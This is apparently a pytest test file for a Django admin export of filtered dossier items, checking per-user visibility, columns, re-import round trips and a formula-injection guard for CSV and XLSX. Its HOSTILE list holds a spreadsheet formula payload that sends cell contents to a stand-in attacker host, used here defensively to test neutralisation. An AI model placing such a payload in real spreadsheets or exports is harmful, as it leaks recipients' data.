"""The export of the items list as it is filtered (issue 9, part 5): exactly the filtered
items the user may see, formulas neutralised, and a file of one type that imports again as a
new import of that type with every column mapped by itself."""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from dossier.demo import DEMO_TZ
from dossier.models import Contact, DossierItem, Employee, ItemType, Relation
from imports import services
from imports.models import ImportJob
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
LIST_URL = reverse("admin:dossier_dossieritem_changelist")
EXPORT_URL = reverse("admin:dossier_dossieritem_export")
FORMATS = {"xlsx": "0", "csv": "1"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+31 6 1234 5678",
    "-5",
    "@SUM(A1:A2)",
    "\tx",
    "\rx",
]


def user(name):
    return get_user_model().objects.get(username=name)


def item_type(code) -> ItemType:
    return ItemType.objects.get(code=code)


def type_filter(*codes) -> str:
    return "?" + "&".join(f"item_type__id__exact={item_type(code).pk}" for code in codes)


def export(client, fmt: str, query: str = "", language: str = "en") -> bytes:
    response = client.post(
        f"{EXPORT_URL}{query}", {"format": FORMATS[fmt], "resource": "0"}, HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200
    return response.content


def rows_of(content: bytes, fmt: str) -> list[list]:
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [[cell.value for cell in row] for row in sheet.iter_rows()]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def records(content: bytes, fmt: str) -> list[dict]:
    headers, *rows = rows_of(content, fmt)
    return [dict(zip(headers, row, strict=True)) for row in rows]


def exported_keys(content: bytes, fmt: str) -> set[tuple[str, int]]:
    return {(r["Type"], int(r["Item number"])) for r in records(content, fmt)}


def keys(items) -> set[tuple[str, int]]:
    return {(i.item_type.code, i.number) for i in items}


def add_item(code: str, number: int, **values) -> DossierItem:
    values.setdefault("submitter", user("admin"))
    values.setdefault("relation", Relation.objects.get(number="20001"))
    return DossierItem.objects.create(item_type=item_type(code), number=number, **values)


def employee_relation() -> Relation:
    return Employee.objects.select_related("relation").order_by("number").first().relation


def add_contract(number: int, **free) -> DossierItem:
    free_values = {
        "Salaris": "3150.50",
        "Ingangsdatum": "2025-02-01",
        "Functie": "Monteur",
        "Proeftijd": True,
        "Soort_contract": "VAST",
        **free,
    }
    return add_item(
        "CONTR",
        number,
        subject=f"Contract {number}",
        relation=employee_relation(),
        regarding_employee=True,
        begin_date=dt.date(2025, 2, 1),
        end_date=dt.date(2026, 1, 31),
        free_values=free_values,
    )


@pytest.fixture
def world(demo):
    """The demo items (CORR, KLACHT), a confidential contract and an application letter."""
    add_contract(101)
    add_item("SOLL", 101, subject="Sollicitatiebrief", relation=employee_relation(), regarding_employee=True)
    return demo


def logged_in(client, name):
    client.force_login(user(name))
    return client


# --- rights and rows ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["admin", "importeur", "profit"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_unfiltered_export_holds_exactly_the_items_the_user_may_see(client, world, name, fmt):
    content = export(logged_in(client, name), fmt)

    assert exported_keys(content, fmt) == keys(DossierItem.objects.visible_to(user(name)))


def test_a_confidential_type_or_one_the_user_may_not_use_never_appears(client, world):
    content = export(logged_in(client, "profit"), "csv")

    assert {code for code, _number in exported_keys(content, "csv")} == {"CORR"}
    assert b"Contract 101" not in content
    assert b"Monteur" not in content


def test_a_filter_on_a_hidden_type_exports_nothing(client, world):
    content = export(logged_in(client, "profit"), "csv", type_filter("CONTR"))

    assert b"Contract 101" not in content
    assert exported_keys(content, "csv") == set()


@pytest.mark.parametrize("name", ["admin", "importeur"])
def test_a_filtered_export_holds_exactly_the_rows_of_the_filtered_list(client, world, name):
    content = export(logged_in(client, name), "csv", type_filter("CORR") + "&q=offerte")

    expected = DossierItem.objects.visible_to(user(name)).filter(item_type__code="CORR", subject__icontains="offerte")
    assert exported_keys(content, "csv") == keys(expected)
    assert len(expected) == 2


def test_a_user_without_types_may_not_export(client, world):
    # Issue 19, part 9: an export of no type would be an empty file; the list says why it is empty.
    client = logged_in(client, "zonderrechten")

    assert client.get(EXPORT_URL).status_code == 403
    assert client.post(EXPORT_URL, {"format": "1", "resource": "0"}).status_code == 403


def test_the_export_needs_the_view_permission_of_items(client, world):
    outsider = UserFactory(username="outsider", is_staff=True)
    outsider.user_permissions.add(Permission.objects.get(codename="view_relation"))
    client.force_login(outsider)

    assert client.get(EXPORT_URL).status_code == 403
    assert client.post(EXPORT_URL, {"format": "1", "resource": "0"}).status_code == 403


def test_the_list_offers_export_and_no_import(client, world):
    page = logged_in(client, "importeur").get(LIST_URL + type_filter("CORR")).content.decode()

    assert f'href="{EXPORT_URL}{type_filter("CORR")}"' in page.replace("&amp;", "&")
    assert "import_link" not in page


def test_the_export_page_names_the_count_the_types_and_the_columns(client, world):
    page = logged_in(client, "importeur").get(EXPORT_URL + type_filter("CORR")).content.decode()

    assert "The file will hold 4 items of the list as it is filtered." in page
    assert "Types: CORR." in page
    assert "Subject, Text, Submitter, Submit date, Organisation/person, Contact, Richting" in page


def test_the_export_page_speaks_dutch(client, world):
    client = logged_in(client, "importeur")
    with translation.override("nl"):
        page = client.get(EXPORT_URL + type_filter("CORR"), HTTP_ACCEPT_LANGUAGE="nl").content.decode()

    assert "Het bestand bevat 4 items van de lijst zoals die gefilterd is." in page


def test_the_file_is_named_after_the_type(client, world):
    response = logged_in(client, "importeur").post(EXPORT_URL + type_filter("CORR"), {"format": "1", "resource": "0"})

    assert f'filename="CORR-{timezone.localdate():%Y-%m-%d}.csv"' in response["Content-Disposition"]


# --- columns -----------------------------------------------------------------------------


def test_one_type_exports_its_free_fields_and_characteristics_as_columns(client, world):
    contracts = records(export(logged_in(client, "importeur"), "xlsx", type_filter("CONTR")), "xlsx")
    letters = records(export(client, "xlsx", type_filter("CORR")), "xlsx")

    assert contracts[0] | {"Submit date": None} == {
        "Type": "CONTR",
        "Item number": 101,
        "Subject": "Contract 101",
        "Text": None,
        "Begin date": dt.datetime(2025, 2, 1),
        "End date": dt.datetime(2026, 1, 31),
        "Submitter": "admin",
        "Submit date": None,
        "Organisation/person": employee_relation().number,
        "Salaris": 3150.5,
        "Ingangsdatum": dt.datetime(2025, 2, 1),
        "Functie": "Monteur",
        "Proeftijd": "yes",
        "Soort contract": "VAST",
        "Import": None,
    }
    assert "Richting" in letters[0]


def test_several_types_export_the_union_of_their_fields_empty_where_a_type_lacks_one(client, world):
    rows = records(export(logged_in(client, "importeur"), "csv", type_filter("CORR", "KLACHT")), "csv")

    letter = next(r for r in rows if r["Type"] == "CORR")
    complaint = next(r for r in rows if r["Type"] == "KLACHT")
    assert letter["Done"] == "" and letter["Priority"] == ""
    assert complaint["Done"] in ("yes", "no")
    # RICHTING and ERNST share level 1: the column goes by its field code.
    assert {letter["characteristic_1"], complaint["characteristic_1"]} <= {"IN", "UIT", "", "LAAG", "MIDDEN", "HOOG"}


def test_another_users_import_is_not_named(client, world):
    from imports.models import ImportJob

    job = ImportJob.objects.create(user=user("admin"), item_type=item_type("CORR"), file_name="admin-only.csv")
    add_item("CORR", 50, subject="Imported by admin", import_job=job)

    as_importeur = records(export(logged_in(client, "importeur"), "csv", type_filter("CORR")), "csv")
    as_admin = records(export(logged_in(client, "admin"), "csv", type_filter("CORR")), "csv")

    assert next(r for r in as_importeur if r["Subject"] == "Imported by admin")["Import"] == "another user's import"
    assert next(r for r in as_admin if r["Subject"] == "Imported by admin")["Import"] == str(job.pk)


# --- formula guard -----------------------------------------------------------------------


@pytest.fixture
def hostile_letters(world):
    return [add_item("CORR", 200 + n, subject=subject) for n, subject in enumerate(HOSTILE)]


def test_the_xlsx_export_writes_every_formula_start_as_a_text_cell(client, hostile_letters):
    content = export(logged_in(client, "importeur"), "xlsx", type_filter("CORR"))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    column = [c.value for c in sheet[1]].index("Subject")
    cells = {row[column].value: row[column].data_type for row in sheet.iter_rows(min_row=2)}

    assert {subject: cells[subject] for subject in HOSTILE} == dict.fromkeys(HOSTILE, "s")


def test_the_csv_export_puts_an_apostrophe_before_every_formula_start(client, hostile_letters):
    subjects = [
        r["Subject"] for r in records(export(logged_in(client, "importeur"), "csv", type_filter("CORR")), "csv")
    ]

    assert set(subjects) >= {"'" + subject for subject in HOSTILE}
    assert not [s for s in subjects if s.startswith(("=", "+", "-", "@", "\t", "\r"))]


# --- the round trip ----------------------------------------------------------------------


def reimport(content: bytes, fmt: str, code: str, username: str = "importeur"):
    """Start a new import of `code` with the exported file, with the suggested mapping."""
    job = services.start_import(
        user=user(username), item_type=item_type(code), file=io.BytesIO(content), file_name=f"export.{fmt}"
    )
    mapping = services.suggest_mapping_for(job)
    fed = {source["column"] for source in mapping.values()}
    # The export's own columns (type, item number, import) no field takes: the user leaves
    # them out on purpose, as the wizard's tick boxes or --ignore-column do.
    own = [{"column": header} for header in job.headers if header not in fed]
    assert services.set_mapping(job=job, mapping={**mapping, "not_imported": own}) == []
    assert services.validate_import(job=job).summary.invalid_rows == 0
    # rows that make the same item (exported items alike but for what the import trims) are
    # probable duplicates: imported anyway, as the items they were
    services.commit_import(job=job, duplicates="import")
    return job, mapping


IMPORTED_FIELDS = (
    "subject",
    "text",
    "relation_id",
    "contact_id",
    "characteristic_value_1_id",
    "submitter_id",
    "submitted_at",
    "begin_date",
    "end_date",
    "regarding_employee",
    "free_values",
)


def imported_values(item: DossierItem) -> dict:
    values = {name: getattr(item, name) for name in IMPORTED_FIELDS}
    values["submitted_at"] = values["submitted_at"].replace(microsecond=0)
    free = dict(values["free_values"])
    if "Salaris" in free:
        free["Salaris"] = Decimal(free["Salaris"])  # 3150.50 and 3150.5 are one amount
    values["free_values"] = free
    return values


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_of_corr_imports_again_as_a_new_import_of_corr(client, world, fmt):
    for n, subject in enumerate(HOSTILE[:4]):
        add_item("CORR", 200 + n, subject=subject, submitted_at=dt.datetime(2025, 3, 1, 8, n, 30, 123, tzinfo=DEMO_TZ))
    originals = list(DossierItem.objects.filter(item_type__code="CORR").order_by("number"))
    content = export(logged_in(client, "importeur"), fmt, type_filter("CORR"))
    headers = rows_of(content, fmt)[0]

    job, mapping = reimport(content, fmt, "CORR")

    field_headers = [h for h in headers if h not in ("Type", "Item number", "Import")]
    assert sorted(source["column"] for source in mapping.values()) == sorted(field_headers)
    created = DossierItem.objects.filter(import_job=job).order_by("submitted_at", "pk")
    by_subject = {item.subject: imported_values(item) for item in created}
    assert by_subject == {item.subject: imported_values(item) for item in originals}
    assert set(by_subject) >= set(HOSTILE[:4])


@pytest.mark.parametrize(("fmt", "language"), [("xlsx", "en"), ("csv", "en"), ("xlsx", "nl"), ("csv", "nl")])
def test_an_export_of_contracts_imports_again_with_its_free_fields(client, world, fmt, language):
    add_contract(102, Salaris="1234567.89", Proeftijd=False, Soort_contract="TIJDELIJK", Functie="=1+1")
    originals = list(DossierItem.objects.filter(item_type__code="CONTR").order_by("number"))
    content = export(logged_in(client, "importeur"), fmt, type_filter("CONTR"), language)
    headers = rows_of(content, fmt)[0]
    assert ("Begindatum" in headers) == (language == "nl")  # the headers are in the user's language

    job, mapping = reimport(content, fmt, "CONTR")

    assert {f"free_{code}" for code in ("Salaris", "Ingangsdatum", "Functie", "Proeftijd", "Soort_contract")} <= set(
        mapping
    )
    created = DossierItem.objects.filter(import_job=job)
    by_subject = {item.subject: imported_values(item) for item in created}
    assert by_subject == {item.subject: imported_values(item) for item in originals}
    assert by_subject["Contract 102"]["free_values"]["Functie"] == "=1+1"


def test_a_leading_tab_or_carriage_return_is_trimmed_on_import_like_every_cell(client, world):
    add_item("CORR", 300, subject="\tx")
    add_item("CORR", 301, subject="\rx")
    content = export(logged_in(client, "importeur"), "csv", type_filter("CORR") + "&q=x")

    job, _mapping = reimport(content, "csv", "CORR")

    assert sorted(DossierItem.objects.filter(import_job=job).values_list("subject", flat=True)) == ["x", "x"]


# --- speed -------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_queries_of_an_export_do_not_grow_with_the_number_of_items(client, world, django_assert_num_queries, fmt):
    client = logged_in(client, "importeur")
    contact = Contact.objects.get(contact_id="30001")
    with CaptureQueriesContext(connection) as few:
        export(client, fmt, type_filter("CORR"))
    for n in range(30):
        add_item("CORR", 400 + n, contact=contact, submitter=user("importeur" if n % 2 else "admin"))

    with django_assert_num_queries(len(few)):
        assert len(rows_of(export(client, fmt, type_filter("CORR")), fmt)) == 1 + 4 + 30


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_item_text_as_long_as_its_limit_is_exported_whole_and_reads_back(client, world, tmp_path, fmt):
    from dossier.models import TEXT_MAX_LENGTH
    from spreadsheets.reading import open_table

    add_item("CORR", 300, subject="Lange brief", text="t" * (TEXT_MAX_LENGTH - 1) + "!")
    content = export(logged_in(client, "importeur"), fmt, type_filter("CORR"))
    [row] = [r for r in records(content, fmt) if r["Subject"] == "Lange brief"]
    assert row["Text"] == "t" * (TEXT_MAX_LENGTH - 1) + "!"

    path = tmp_path / f"export.{fmt}"
    path.write_bytes(content)
    table = open_table(path)
    position = table.headers.index("Text")
    assert ("t" * (TEXT_MAX_LENGTH - 1) + "!") in [r.cells[position] for r in table.rows()]


def test_the_export_of_a_list_filtered_on_another_users_import_exports_nothing(client, world):
    job = ImportJob.objects.create(user=user("admin"), item_type=item_type("CORR"), file_name="admins-letters.csv")
    DossierItem.objects.filter(item_type__code="CORR").update(import_job=job)
    query = f"?import_job__id__exact={job.pk}"
    logged_in(client, "profit")

    page = client.get(f"{EXPORT_URL}{query}")
    content = export(client, "csv", query)

    assert page.context["item_count"] == 0
    assert exported_keys(content, "csv") == set()
    assert b"admins-letters" not in content
